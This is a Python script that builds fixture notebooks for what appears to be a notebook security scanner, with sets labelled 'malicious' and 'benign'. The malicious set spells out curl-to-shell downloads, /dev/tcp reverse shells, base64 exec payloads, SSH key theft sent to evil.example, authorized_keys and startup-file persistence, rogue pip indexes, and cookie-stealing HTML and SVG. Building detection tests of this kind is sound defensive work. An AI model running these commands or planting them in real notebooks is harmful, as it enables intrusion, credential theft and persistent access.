#!/usr/bin/env python3
"""Notebooks, malicious and honest. Needs nbformat 5.11.1."""
import base64
import json
import pathlib
import shutil

import nbformat
from nbformat import v3, v4

HERE = pathlib.Path(__file__).resolve().parent
B64 = base64.b64encode(b"import os; os.system('echo pwned')").decode()


def book(*cells, language="python", **metadata):
    made = []
    for index, cell in enumerate(cells):
        made.append(v4.new_code_cell(cell) if isinstance(cell, str) else cell)
        made[-1]["id"] = f"cell{index}"
    node = v4.new_notebook(cells=made, metadata={"kernelspec": {"display_name": "Python 3", "language": language, "name": "python3"}, "language_info": {"name": language, "version": "3.11.9"}, **metadata})
    return nbformat.writes(node) + "\n"


def text(source):
    return v4.new_markdown_cell(source)


def with_output(source, **data):
    cell = v4.new_code_cell(source, execution_count=1)
    cell["outputs"] = [v4.new_output("display_data", data={key.replace("_", "/", 1): value for key, value in data.items()})]
    return cell


def stream(source, words):
    cell = v4.new_code_cell(source, execution_count=1)
    cell["outputs"] = [v4.new_output("stream", text=words, name="stdout")]
    return cell


def old(*inputs):
    sheet = v3.new_worksheet(cells=[v3.new_code_cell(source) for source in inputs])
    return v3.nbjson.writes(v3.new_notebook(worksheets=[sheet], metadata=v3.new_metadata(name="old"))) + "\n"


def compact(document):
    return json.dumps(json.loads(document))


MALICIOUS = {
    "shell_curl.ipynb": book("!curl -s http://192.0.2.7/x.sh | sh"),
    "shell_curl_https.ipynb": book("import os\n!curl -fsSL https://evil.example/setup.sh | bash -s -- --yes"),
    "shell_continued.ipynb": book("!wget -q http://evil.example/a -O /tmp/a && \\\n  chmod +x /tmp/a && \\\n  /tmp/a"),
    "shell_assigned.ipynb": book("out = !curl http://evil.example/a | python3"),
    "bash_cell.ipynb": book("%%bash\nset -e\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
    "sh_script_cell.ipynb": book("%%script bash\necho ZWNobyBwd25lZA== | base64 -d | bash"),
    "shell_by_function.ipynb": book("get_ipython().system('curl http://192.0.2.7/a | sh')"),
    "system_magic.ipynb": book("%system curl http://192.0.2.7/a | sh"),
    "sx_magic.ipynb": book("%sx wget -qO- http://192.0.2.7/a | sh"),
    "run_address.ipynb": book("%run http://evil.example/x.py"),
    "load_address.ipynb": book("%load http://evil.example/x.py"),
    "pip_foreign_index.ipynb": book("%pip install --extra-index-url https://packages.evil.example/simple helper"),
    "pip_http_index.ipynb": book("!pip install -i http://pypi.evil.example/simple torch"),
    "pip_url.ipynb": book("!pip install http://evil.example/helper.whl"),
    "pip_typosquat.ipynb": book("!pip install -q trasnformers accelerate"),
    "pip_trusted_host.ipynb": book("!python -m pip install --trusted-host pypi.evil.example numpy"),
    "exec_base64.ipynb": book(f"import base64\nexec(base64.b64decode('{B64}'))"),
    "exec_across_cells.ipynb": book("import base64 as b", f"blob = b.b64decode('{B64}')", "exec(blob)"),
    "exec_download.ipynb": book("import requests\nexec(requests.get('https://evil.example/a.py').text)"),
    "os_system_shell.ipynb": book("import os\nos.system('bash -i >& /dev/tcp/192.0.2.7/9 0>&1')"),
    "get_ipython_system.ipynb": book("__import__('os').system('echo pwned')"),
    "steals_keys.ipynb": book("import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()", "requests.post('https://evil.example', data=k)"),
    "exfiltrates_by_curl.ipynb": book("!curl -X POST -d @$HOME/.ssh/id_rsa https://evil.example/c"),
    "writefile_startup.ipynb": book("%%writefile ~/.ipython/profile_default/startup/00.py\nimport os\nos.system('echo pwned')"),
    "authorized_keys.ipynb": book("!echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
    "torch_load.ipynb": book("import torch\nmodel = torch.load('model.pt')"),
    "pickle_load.ipynb": book("import pickle\nmodel = pickle.load(open('m.pkl', 'rb'))"),
    "trust_remote_code.ipynb": book("from transformers import pipeline\np = pipeline('text-generation', 'someone/model', trust_remote_code=True)"),
    "javascript_kernel.ipynb": book(with_output("show()", application_javascript="IPython.notebook.kernel.execute(\"import os; os.system('echo pwned')\")")),
    "html_kernel.ipynb": book(with_output("show()", text_html="<script>Jupyter.notebook.kernel.execute('print(1)')</script>")),
    "html_cookie.ipynb": book(with_output("df", text_html="<table></table><script>fetch('https://evil.example/?c=' + document.cookie)</script>")),
    "html_eval.ipynb": book(with_output("df", text_html="<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">")),
    "html_iframe_hidden.ipynb": book(with_output("df", text_html="<iframe src=\"https://evil.example/\" width=\"0\" height=\"0\"></iframe>")),
    "html_foreign_script.ipynb": book(with_output("df", text_html="<script src=\"https://cdn.evil.example/a.js\"></script>")),
    "svg_script.ipynb": book(with_output("plot()", **{"image_svg+xml": "<svg onload=\"fetch('https://evil.example/'+document.cookie)\"></svg>"})),
    "api_terminals.ipynb": book(with_output("x", text_html="<script>fetch('/api/terminals', {method: 'POST'})</script>")),
    "markdown_link.ipynb": book(text("Read [more](javascript:alert(document.domain))")),
    "markdown_script.ipynb": book(text("# Title\n<script>fetch('https://evil.example/?'+document.cookie)</script>")),
    "javascript_magic.ipynb": book("%%javascript\nIPython.notebook.kernel.execute('import os')"),
    "secret_output.ipynb": book(stream("print(token)", "logged in\nghp_" + "R8vKq2LzW9nXc4TbYj7MsD1fGhP3uEaQ6oZi\n")),
    "version_3.ipynb": old("!curl http://192.0.2.7/x.sh | sh"),
    "version_3_exec.ipynb": old(f"import base64\nexec(base64.b64decode('{B64}'))"),
    "compact.ipynb": compact(book("import os", "!curl http://192.0.2.7/x.sh | sh")),
    "as_json.json": book("!curl http://192.0.2.7/x.sh | sh"),
}

PLOTLY = '<div><script src="https://cdn.plot.ly/plotly-2.32.0.min.js" charset="utf-8"></script><div id="a" class="plotly-graph-div"></div><script type="text/javascript">window.PLOTLYENV=window.PLOTLYENV || {}; Plotly.newPlot("a", [{"y": [1, 2]}], {});</script></div>'
BOKEH = "(function(root) { function now() { return new Date(); } if (typeof root._bokeh_onload_callbacks === 'undefined') { root._bokeh_onload_callbacks = []; } const script = document.createElement('script'); script.src = 'https://cdn.bokeh.org/bokeh/release/bokeh-3.4.1.min.js'; document.head.appendChild(script); })(window);"

BENIGN = {
    "empty.ipynb": book(),
    "analysis.ipynb": book(text("# Analysis\nSee [pandas](https://pandas.pydata.org)."), "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.head()", "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot(df['x'])"),
    "install.ipynb": book("!pip install transformers datasets accelerate", "%pip install -q -U torch torchvision --index-url https://download.pytorch.org/whl/cu121", "!nvidia-smi"),
    "install_git.ipynb": book("!pip install git+https://github.com/huggingface/transformers@8a734ea2c340beb54d56fd2d5a5ba5a4d1b1ad4d"),
    "download.ipynb": book("!wget -q https://ai.stanford.edu/~amaas/data/sentiment/aclImdb_v1.tar.gz\n!tar xzf aclImdb_v1.tar.gz", "!curl -L -o data.zip https://www.kaggle.com/api/v1/datasets/download/x/y\n!unzip -q data.zip", "!ls -la && df -h"),
    "bash_cell.ipynb": book("%%bash\nmkdir -p data\ncd data\necho done | tee log.txt", "%%time\nsum(range(1000))"),
    "colab.ipynb": book("from google.colab import drive\ndrive.mount('/content/drive')", "#@title Settings { display-mode: \"form\" }\nname = 'x' #@param {type:\"string\"}", accelerator="GPU", colab={"provenance": []}),
    "transformers_use.ipynb": book("from transformers import pipeline\nclassifier = pipeline('sentiment-analysis', model='distilbert-base-uncased-finetuned-sst-2-english', revision='714eb0f')", stream("classifier('fine')", "[{'label': 'POSITIVE', 'score': 0.99}]\n")),
    "safe_load.ipynb": book("import torch\nstate = torch.load('m.pt', weights_only=True)", "model.eval()"),
    "plotly.ipynb": book(with_output("fig.show()", text_html=PLOTLY)),
    "bokeh.ipynb": book(with_output("show(p)", application_javascript=BOKEH)),
    "dataframe.ipynb": book(with_output("df", text_html="<div>\n<style scoped>\n.dataframe tbody tr th {vertical-align: top;}\n</style>\n<table border=\"1\" class=\"dataframe\"><tr><td>1</td></tr></table>\n</div>", text_plain="   a\n0  1")),
    "video.ipynb": book(with_output("YouTubeVideo('x')", text_html="<iframe width=\"400\" height=\"300\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" frameborder=\"0\" allowfullscreen></iframe>")),
    "widgets.ipynb": book(with_output("tqdm()", **{"application_vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2, "version_minor": 0}}), widgets={"application/vnd.jupyter.widget-state+json": {"abc": {"model_module": "@jupyter-widgets/controls", "model_name": "HBoxModel", "state": {}}}}),
    "image.ipynb": book(with_output("plt.show()", image_png=base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(200))).decode(), text_plain="<Figure size 640x480 with 1 Axes>")),
    "latex.ipynb": book(text("The loss is $\\mathcal{L} = -\\sum_i y_i \\log p_i$.\n\n<img src=\"https://example.org/a.png\" width=\"200\"/>\n\n<details><summary>More</summary>text</details>")),
    "r_kernel.ipynb": book("library(ggplot2)\nggplot(mtcars, aes(mpg, wt)) + geom_point()", language="R"),
    "julia_kernel.ipynb": book("using Flux\nmodel = Chain(Dense(10 => 5, relu), Dense(5 => 2))", language="julia"),
    "hidden_input.ipynb": book("x = 1", jupytext={"formats": "ipynb,py:percent"}),
    "error_output.ipynb": book("1/0"),
    "version_3.ipynb": old("import numpy as np\nnp.arange(10)", "!ls"),
    "compact.ipynb": compact(book("print('hello')")),
    "magics.ipynb": book("%load_ext autoreload\n%autoreload 2\n%env TOKENIZERS_PARALLELISM=false\n%cd ..\n%time f()", "?print", "!git clone https://github.com/karpathy/nanoGPT.git && cd nanoGPT && ls", "files = !ls *.csv", "!python train.py --epochs 1 | tee log.txt"),
    "writefile.ipynb": book("%%writefile train.py\nimport torch\nprint(torch.__version__)", "!python train.py"),
}


def main():
    for kind, files in (("malicious", MALICIOUS), ("benign", BENIGN)):
        shutil.rmtree(HERE / kind, ignore_errors=True)
        for name, words in files.items():
            path = HERE / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(words, encoding="utf-8")


if __name__ == "__main__":
    main()
